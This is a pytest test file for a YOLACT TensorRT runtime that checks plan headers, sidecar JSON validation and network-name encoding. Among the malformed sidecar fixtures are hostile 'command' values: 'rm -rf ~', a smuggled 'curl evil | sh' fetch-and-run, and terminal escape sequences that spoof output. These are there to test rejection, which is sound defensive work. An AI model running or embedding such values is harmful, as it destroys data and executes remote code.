"""What a plan says of itself: header, sidecar, network name."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from plan_files import IDENTITY, METADATA, plan_bytes

from yolact.runtime.config import ModelConfig
from yolact.runtime.errors import EngineError
from yolact.runtime.tensorrt.flavour import TENSORRT, TENSORRT_RTX
from yolact.runtime.tensorrt.plan_file import (
    MAX_NETWORK_NAME,
    from_network_name,
    read_plan_header,
    read_sidecar,
    sidecar_of,
    to_network_name,
)
from yolact.training.models.configs import CONFIGS


@pytest.mark.parametrize(
    ("magic", "flavour", "version"),
    [
        (b"ftrt", TENSORRT, (10, 3, 0, 26)),
        (b"ftrt", TENSORRT, (11, 4, 0, 106)),
        (b"vtrt", TENSORRT_RTX, (1, 7, 1, 116)),
    ],
)
def test_header(tmp_path: Path, magic: bytes, flavour: object, version: tuple[int, int, int, int]) -> None:
    path = tmp_path / "a.plan"
    path.write_bytes(plan_bytes(magic, version))
    header = read_plan_header(path)
    assert header is not None and header.flavour is flavour and tuple(header.version) == version
    assert str(header.version) == ".".join(map(str, version))


@pytest.mark.parametrize("data", [b"", b"\x08\x08\x12", b"x" * 100, b"ftr"])
def test_other_files_have_none(tmp_path: Path, data: bytes) -> None:
    (tmp_path / "a.plan").write_bytes(data)
    assert read_plan_header(tmp_path / "a.plan") is None


def test_a_plan_cut_off_in_its_header(tmp_path: Path) -> None:
    (tmp_path / "a.plan").write_bytes(plan_bytes(b"vtrt", (1, 7, 1, 116))[:27])
    with pytest.raises(EngineError, match="cut off after 27 bytes"):
        read_plan_header(tmp_path / "a.plan")


def test_sidecars_come_back_as_they_were(tmp_path: Path) -> None:
    path = sidecar_of(tmp_path / "yolact.plan")
    assert path.name == "yolact.plan.json"
    path.write_text(IDENTITY.to_sidecar(METADATA))
    assert read_sidecar(path) == (IDENTITY, METADATA)


def without(*keys: str) -> Any:
    def damage(values: dict[str, Any]) -> dict[str, Any]:
        for key in keys[:-1]:
            values[key].pop(keys[-1])
        return values

    return damage


DAMAGED = {
    "no object": (lambda _: [1], "is no sidecar"),
    "nothing": (lambda _: {}, "has schema None"),
    "newer schema": (lambda values: values | {"schema_version": 9}, "has schema 9, this runtime reads 2"),
    "no size": (without("plan", "size"), "is no sidecar"),
    "no plan": (lambda values: {"schema_version": 2, "model": values["model"]}, "is no sidecar"),
    "more than known": (lambda values: values | {"plan": values["plan"] | {"colour": 1}}, "is no sidecar"),
    "size is text": (lambda values: values | {"plan": values["plan"] | {"size": "big"}}, "is no sidecar"),
    "schema is a fraction": (lambda values: values | {"schema_version": 2.0}, "has schema 2.0"),
    "schema is a truth": (lambda values: values | {"schema_version": True}, "has schema True"),
    **{
        f"{name} is {value!r}"[:40]: (
            lambda values, name=name, value=value: values | {"plan": values["plan"] | {name: value}},
            "is no sidecar",
        )
        for name, value in (
            ("flavour", "tvm"),
            ("gpu_archs", 3),
            ("gpu_archs", [86]),
            ("gpu_archs", ["sm_90a"]),
            ("gpu_archs", ["ampere"]),
            ("plugins", [1]),
            ("plugins", {}),
            ("precision_obtained", "x"),
            ("precision_obtained", {"HALF": "many"}),
            ("precision_asked", "fp4"),
            ("size", True),
            ("size", -1),
            ("min_batch", "x"),
            ("version_compatible", 1),
            ("command", {}),
            ("command", "rm -rf ~"),
            ("command", "yolact-build --engine a.onnx"),
            ("command", ["rm", "-rf", "~"]),
            ("command", ["yolact-build; curl evil | sh"]),
            ("command", ["yolact-build\n"]),
            ("command", ["/tmp/yolact-build"]),
            ("command", ["yolact-build", 1]),
            ("command", ["yolact-build", "a\n\x1b[2Jerror: fine"]),
            ("precision_obtained", {"HA\x1b[2JLF": 1}),
            ("size", 2**63),
            ("gpu_name", "Or\nin"),
            ("tensorrt_version", "ten"),
            ("plugins_embedded", "yes"),
        )
    },
    "model without config": (without("model", "yolact.config"), "damaged YOLACT metadata"),
    "other precision": (
        lambda values: values | {"model": values["model"] | {"yolact.precision": "fp4"}},
        "damaged YOLACT metadata",
    ),
}


@pytest.mark.parametrize("name", DAMAGED)
def test_damaged_sidecars(tmp_path: Path, name: str) -> None:
    damage, message = DAMAGED[name]
    path = tmp_path / "a.plan.json"
    path.write_text(json.dumps(damage(json.loads(IDENTITY.to_sidecar(METADATA)))))
    with pytest.raises(EngineError, match=message):
        read_sidecar(path)


def test_sidecars_from_before_plugins_could_be_embedded(tmp_path: Path) -> None:
    values = json.loads(IDENTITY.to_sidecar(METADATA))
    del values["plan"]["plugins_embedded"]
    (tmp_path / "a.plan.json").write_text(json.dumps(values))
    assert read_sidecar(tmp_path / "a.plan.json") == (IDENTITY, METADATA)


@pytest.mark.parametrize("data", [b"", b"{", b"\xff\xfe", b"[" * 200_000, b" " * (1 << 20) + b"{}"], ids=range(5))
def test_sidecars_that_are_no_json(tmp_path: Path, data: bytes) -> None:
    (tmp_path / "a.json").write_bytes(data)
    with pytest.raises(EngineError, match="is no sidecar"):
        read_sidecar(tmp_path / "a.json")


@pytest.mark.parametrize("name", CONFIGS)
def test_names_carry_the_whole_model(name: str) -> None:
    metadata = replace(METADATA, config=CONFIGS[name])
    text = to_network_name(metadata)
    assert len(text) <= MAX_NETWORK_NAME and text.isascii()
    assert from_network_name(text, "a.plan") == metadata


def test_of_many_classes_the_number_fits() -> None:
    names = tuple(f"class with a rather long name {i}" for i in range(1203))
    metadata = replace(METADATA, config=ModelConfig("lvis", "resnet50", 550, names, tuple(range(2, 1205))))
    text = to_network_name(metadata)
    assert len(text) <= MAX_NETWORK_NAME
    found = from_network_name(text, "a.plan")
    assert found is not None and found.config.num_classes == 1203
    assert found.config.class_names[1202] == "class_1202" and found.postprocess == metadata.postprocess


def test_a_name_may_be_as_long_as_tensorrt_takes_it() -> None:
    def named(length: int) -> str:
        classes = [*["x" * 150] * count, "x" * length]
        return to_network_name(replace(METADATA, config=METADATA.config.with_classes(classes)))

    count = 0
    while len(named(150)) + 160 < MAX_NETWORK_NAME:
        count += 1
    longest = 1 + MAX_NETWORK_NAME - len(named(1))
    assert len(named(longest)) == MAX_NETWORK_NAME
    found = from_network_name(named(longest + 1), "a.plan")
    assert found is not None and found.config.class_names == tuple(f"class_{index}" for index in range(count + 1))


def test_names_of_others_say_nothing() -> None:
    assert from_network_name("Unnamed Network 0", "a.plan") is None


@pytest.mark.parametrize(
    "text",
    ["yolact:", "yolact:{}", "yolact:[1]", "yolact:" + "[" * 100_000, 'yolact:{"yolact.config":"{}"}'],
    ids=range(5),
)
def test_damaged_names(text: str) -> None:
    with pytest.raises(EngineError, match=r"a\.plan"):
        from_network_name(text, "a.plan")


@pytest.mark.parametrize(
    ("counts", "words"),
    [
        ({"HALF": 81}, "81 convolutions in fp16"),
        ({"FLOAT": 1, "HALF": 52}, "52 convolutions in fp16 and 1 in fp32"),
        ({"BF16": 3, "INT8": 40, "NEW8": 2}, "40 convolutions in INT8, 3 in bf16 and 2 in NEW8"),
        ({}, "no convolutions of a known type"),
    ],
)
def test_types_of_convolutions_in_words(counts: dict[str, int], words: str) -> None:
    assert replace(IDENTITY, precision_obtained=counts).convolutions == words
